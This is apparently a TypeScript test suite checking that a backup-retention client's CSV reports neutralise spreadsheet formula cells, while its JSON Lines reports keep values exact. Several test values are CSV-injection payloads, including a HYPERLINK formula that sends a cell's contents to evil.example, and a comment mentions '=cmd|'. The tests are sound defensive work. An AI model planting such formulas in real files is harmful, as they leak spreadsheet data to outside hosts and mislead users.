/**
 * CSV reports neutralise formula cells: backup ids, provider codes and messages come from providers
 * and may be hostile, and a spreadsheet opening the report would run `=HYPERLINK(...)` or
 * `=cmd|...`. A cell starting with =, +, -, @, tab or CR is prefixed with ' (OWASP CSV injection
 * guidance); JSON Lines stays exact.
 */
import assert from 'node:assert/strict';
import { after, before, describe, test } from 'node:test';
import { csvField, parseCsv, reportToString, CSV_COLUMNS } from '../client/report';
import { RetentionClient } from '../client/retention-client';
import { reportOf } from './helpers/runs';
import { startStack, vbsBackups, type Stack } from './helpers/stack';

describe('CSV reports neutralise formula cells', () => {
  test('a cell starting with =, +, -, @, tab or CR gets a leading quote; other cells are unchanged', () => {
    const cases: [string, string][] = [
      ['=HYPERLINK("evil.example","x")', `"'=HYPERLINK(""evil.example"",""x"")"`],
      ['+1+1', "'+1+1"],
      ['-2+3', "'-2+3"],
      ['@SUM(A1:A2)', "'@SUM(A1:A2)"],
      ['\t=1', "'\t=1"],
      ['\r=1', `"'\r=1"`],
      ['=1,2', `"'=1,2"`],
      ['plain', 'plain'],
      ['a=b', 'a=b'],
      ['b-1', 'b-1'],
      [' padded ', '" padded "'],
    ];
    for (const [value, expected] of cases) assert.equal(csvField(value), expected, JSON.stringify(value));
  });

  describe('through a real run: a hostile backup id and a hostile provider error code', () => {
    let stack: Stack;
    before(async () => {
      stack = await startStack({ vbs: { provider: 'vbs', limits: { maxAttempts: 1 } } });
    });
    after(async () => stack?.stop());

    test('the CSV shows them as text, the JSON Lines report keeps them exact', async () => {
      const hostileId = '=HYPERLINK("evil.example","open")';
      const hostileCode = '=HYPERLINK("http://evil.example/?"&A1,"Click")';
      const [ok] = vbsBackups(1, 'csv');
      const [refused] = vbsBackups(1, 'csv-refused');
      stack.sim.seed('vbs', stack.scope('vbs'), [{ ...ok!, id: hostileId }, refused]);
      // The provider refuses one delete with an error code made to be a formula.
      stack.sim.setFaults([
        {
          provider: 'vbs',
          method: 'DELETE',
          path: `/backups/${refused!.id}`,
          fault: {
            kind: 'status',
            status: 400,
            body: { error_code: hostileCode, error_msg: '-1+1 refused' },
          },
        },
      ]);
      const rc = new RetentionClient(stack.client, stack.taskQueue);
      const account = stack.account('vbs');
      const id = await rc.start({
        items: [
          { account, id: hostileId },
          { account, id: refused!.id },
        ],
        dryRun: false,
        label: 'csv injection',
      });
      const summary = await rc.result(id);
      stack.sim.setFaults([]);
      assert.deepEqual(summary.counts, { deleted: 1, absent: 0, blocked: 0, failed: 1, skipped: 0 });

      const outcomes = await reportOf(rc, id);
      const byId = new Map(outcomes.map((o) => [o.id, o]));
      assert.equal(byId.get(hostileId)?.outcome, 'deleted');
      assert.equal(
        byId.get(refused!.id)?.code,
        hostileCode,
        'the outcome keeps the provider code as it came',
      );

      const [header, ...rows] = parseCsv(await reportToString(outcomes, 'csv'));
      assert.deepEqual(header, [...CSV_COLUMNS]);
      const col = (name: (typeof CSV_COLUMNS)[number]) => CSV_COLUMNS.indexOf(name);
      const idCells = rows.map((r) => r[col('id')]);
      assert.ok(idCells.includes(`'${hostileId}`), `the id is text in the CSV: ${JSON.stringify(idCells)}`);
      const refusedRow = rows.find((r) => r[col('id')] === refused!.id)!;
      assert.equal(refusedRow[col('code')], `'${hostileCode}`);
      for (const row of rows)
        for (const cell of row)
          assert.doesNotMatch(cell, /^[=+\-@\t\r]/, `no cell starts a formula: ${cell}`);

      const jsonl = (await reportToString(outcomes, 'jsonl'))
        .trim()
        .split('\n')
        .map((l) => JSON.parse(l) as unknown);
      assert.deepEqual(jsonl, outcomes, 'JSON Lines keeps every value exact');
    });
  });
});
